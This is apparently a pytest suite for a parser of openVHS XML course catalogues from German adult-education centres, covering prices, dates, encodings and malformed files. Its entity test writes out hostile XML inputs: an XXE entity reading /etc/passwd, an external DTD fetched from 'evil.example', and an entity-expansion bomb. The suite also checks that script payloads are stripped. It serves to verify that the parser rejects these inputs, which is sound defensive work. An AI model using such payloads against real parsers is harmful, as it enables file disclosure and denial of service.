"""openVHS of the Volkshochschulen as XML."""

import io

import pytest

from imports.formats.openvhs import parse
from tests.imports.formats.samples import EVIL, PEOPLE, TODAY, check, days, problems, read, records

HEAD = """<?xml version="1.0" encoding="UTF-8"?>
<openvhs:veranstaltungen version="{version}" xmlns:openvhs="http://www.dvv-vhs.de/Open-VHS">
  <export>
    <erstellungszeitpunkt>2026-10-30T06:00:00+01:00</erstellungszeitpunkt>
    <ersteller><guid>vhs-0815</guid><name>Volkshochschule Region Kassel</name></ersteller>
  </export>
"""
COURSE = """  <veranstaltung>
    <guid>{guid}</guid><nummer>T58130</nummer><name>{name}</name><untertitel>Für Einsteiger</untertitel>
    <dvv_kategorie version="2.0">3.01</dvv_kategorie>
    <merkmale><merkmal><name>D(1)</name><wert>x</wert></merkmal>{merkmal}</merkmale>
    <minimale_teilnehmerzahl>6</minimale_teilnehmerzahl><aktuelle_teilnehmerzahl>4</aktuelle_teilnehmerzahl>
    <maximale_teilnehmerzahl>12</maximale_teilnehmerzahl>
    <anzahl_termine>2</anzahl_termine><beginn_datum>2026-11-10</beginn_datum><dauer>15.0</dauer>
    <ende_datum>2026-11-17</ende_datum><wochentag>Dienstag</wochentag>
    <zielgruppe>Erwachsene</zielgruppe><schlagwort>Yoga</schlagwort><schlagwort>Stress</schlagwort>
    <text><eigenschaft>Beschreibung</eigenschaft><text>{text}</text></text>
    <veranstaltungsort><name>Rathaus Vellmar</name><adresse><land>Deutschland</land><plz>34246</plz><ort>Vellmar</ort>
      <strasse>Rathausplatz 1</strasse></adresse><barrierefrei>true</barrierefrei></veranstaltungsort>
    <termin><beginn_datum>2026-11-10</beginn_datum><beginn_uhrzeit>18:00:00+01:00</beginn_uhrzeit>
      <ende_uhrzeit>19:30:00+01:00</ende_uhrzeit></termin>
    <termin><beginn_datum>2026-11-17</beginn_datum></termin>
    <preis><betrag>54.00</betrag><rabatt_moeglich>true</rabatt_moeglich><zusatz>erm. Preis: 40,50 EUR</zusatz></preis>
    <dozent><anrede>Herr</anrede><name>Ostrowski</name><vorname>Milan</vorname></dozent>
    <ansprechperson><name>Wiegand</name><vorname>Gesine</vorname><telefon>05605 1112</telefon></ansprechperson>
    <webadresse><typ>website</typ><name>Zum Kurs</name><uri>https://vhs.example/kurs/{guid}</uri></webadresse>
  </veranstaltung>
"""
FOOT = "</openvhs:veranstaltungen>\n"


def course(
    guid="g-1", name="Yoga am Abend", text="Wir üben Haltungen und Atem. Bitte eine Matte mitbringen.", merkmal=""
):
    return COURSE.format(guid=guid, name=name, text=text, merkmal=merkmal)


def file(*courses: str, version: str = "1.2") -> str:
    return HEAD.format(version=version) + "".join(courses) + FOOT


def test_a_course():
    [record] = records(parse, file(course()))

    assert (record.origin_id, record.title, record.source_url) == (
        "g-1",
        "Yoga am Abend",
        "https://vhs.example/kurs/g-1",
    )
    assert (record.provider.origin_id, record.provider.name) == ("vhs-0815", "Volkshochschule Region Kassel")
    data = record.data
    assert data["topics"] == ["entspannung"]
    assert (data["format"], data["kind"]) == ("onsite", "course")
    assert data["price_kind"] == "paid"
    assert data["prices"] == [{"kind": "full", "amount": "54.00"}, {"kind": "reduced", "amount": "40.50"}]
    [run] = data["runs"]
    assert (run["venue"].name, run["venue"].city, run["venue"].access) == (
        "Rathaus Vellmar", "Vellmar", {"rollstuhlgerecht": True},
    )  # fmt: skip
    assert run["dates"][0] == {"date": "2026-11-10", "start_time": "18:00", "end_time": "19:30"}
    assert days(run) == ["2026-11-10", "2026-11-17"]
    assert (run["course_number"], run["capacity"], run["seats_left"]) == ("T58130", 12, 8)


@pytest.mark.parametrize("version", ["0.9", "1.0", "1.1", "1.2"])
def test_every_version(version):
    assert len(records(parse, file(course(), course("g-2"), version=version))) == 2


def test_a_number_may_occur_twice_an_id_may_not_be_missing():
    first, second, third = read(parse, file(course("1"), course("2"), course("")))

    assert (first.origin_id, second.origin_id) == ("1", "2")
    assert (third.title, third.message) == (
        "Yoga am Abend",
        "Die Kennung fehlt; ohne sie wäre das Angebot nicht wiederzuerkennen.",
    )


@pytest.mark.parametrize(
    ("value", "form"),
    [("online_angebot", "online"), ("blended_learning", "hybrid"), ("selbstlernangebot", "self_paced")],
)
def test_digital_courses(value, form):
    mark = f"<merkmal><name>kursart_digital</name><wert>{value}</wert></merkmal>"

    assert records(parse, file(course(merkmal=mark)))[0].data["format"] == form


def test_an_end_before_the_beginning():
    broken = course().replace("<ende_datum>2026-11-17", "<ende_datum>2026-10-01")
    broken = broken[: broken.index("<termin>")] + broken[broken.index("<preis>") :]

    [record] = records(parse, file(broken))

    assert days(record.data["runs"][0]) == ["2026-11-10"]
    assert record.doubts == ["Das Ende (01.10.2026) liegt vor dem Beginn (10.11.2026); das Ende wurde weggelassen."]


def test_people_are_not_read():
    assert not [name for name in PEOPLE if name in repr(read(parse, file(course())))]


def test_html_and_scripts():
    evil = EVIL.replace("&", "&amp;").replace("<", "&lt;")
    entries = read(parse, file(course(name=evil, text=evil), course("2", text=f"<![CDATA[{EVIL}]]>")))

    check(entries)
    assert "alert" not in repr([entry.data for entry in entries])


def test_what_comes_before_a_break_is_kept():
    text = file(course("1"), course("2"), course("3"))

    entries = read(parse, text[: text.index("<guid>3")])

    assert [entry.origin_id for entry in entries[:-1]] == ["1", "2"]
    assert entries[-1].ends_file
    assert entries[-1].message.endswith("Vielleicht wurde sie nicht vollständig übertragen.")


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp1252", "iso-8859-15", "utf-16"])
@pytest.mark.parametrize("declared", ["UTF-8", "ISO-8859-1", "iso-8859-15", "windows-1252", "klingonisch"])
def test_any_encoding_whatever_is_declared(encoding, declared):
    text = file(course(name="Für Größe und Übung")).replace('encoding="UTF-8"', f'encoding="{declared}"')

    assert records(parse, text.encode(encoding))[0].title == "Für Größe und Übung"


def test_encodings_mixed_in_one_file():
    data = (
        file(course(name="Für Größe"), course("2", name="MARK"))
        .encode()
        .replace(b"MARK", "Übung – neu".encode("cp1252"))
    )

    assert [record.title for record in records(parse, data)] == ["Für Größe", "Übung – neu"]


def test_characters_that_xml_forbids():
    text = file(course(name="Tanz & Musik&nbsp;f&uuml;r alle\x00\x0b &#0; &unknown; &"))

    assert records(parse, text)[0].title == "Tanz & Musik für alle &unknown; &"


@pytest.mark.parametrize(
    "head",
    [
        '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>',
        '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://evil.example/x.dtd"> %a;]>',
    ],
)
def test_entities_of_its_own(head):
    text = file(course(name="&b;&a;")).replace("<openvhs:veranstaltungen ", f"{head}<openvhs:veranstaltungen ", 1)

    [message] = problems(parse, text)

    assert "Entitäten" in message
    assert "root:" not in repr(read(parse, text))


def test_deep_nesting():
    text = file("<veranstaltung>" + "<a>" * 1000 + "</a>" * 1000 + "</veranstaltung>")

    assert problems(parse, text) == [
        "Die Datei ist zu tief oder zu stark verschachtelt; so sieht kein Kursverzeichnis aus."
    ]


@pytest.mark.parametrize("text", ["", "kein XML", '{"veranstaltungen": []}', "\x00\x00"])
def test_no_xml(text):
    [problem] = read(parse, text)

    assert problem.message.startswith("Das ist keine XML-Datei.")
    assert problem.ends_file


def test_what_does_not_even_begin_as_xml_is_not_read_on():
    stream = io.BytesIO(b"  kein XML" + b"a" * 1_000_000)

    (problem,) = parse(stream, TODAY)

    assert (problem.line, problem.ends_file) == (1, True)
    assert problem.message == "Das ist keine XML-Datei. Vielleicht wurde sie nicht vollständig übertragen."
    assert stream.tell() < 100_000


def test_a_price_in_words():
    text = course().replace("<betrag>54.00<", "<betrag>ab 45,00 EUR / erm. 30<").replace("erm. Preis: 40,50 EUR", "")

    [record] = records(parse, file(text))

    assert record.data["prices"] == [{"kind": "full", "amount": "45.00"}, {"kind": "reduced", "amount": "30.00"}]
    assert record.data["price_note"] == "ab 45,00 EUR"
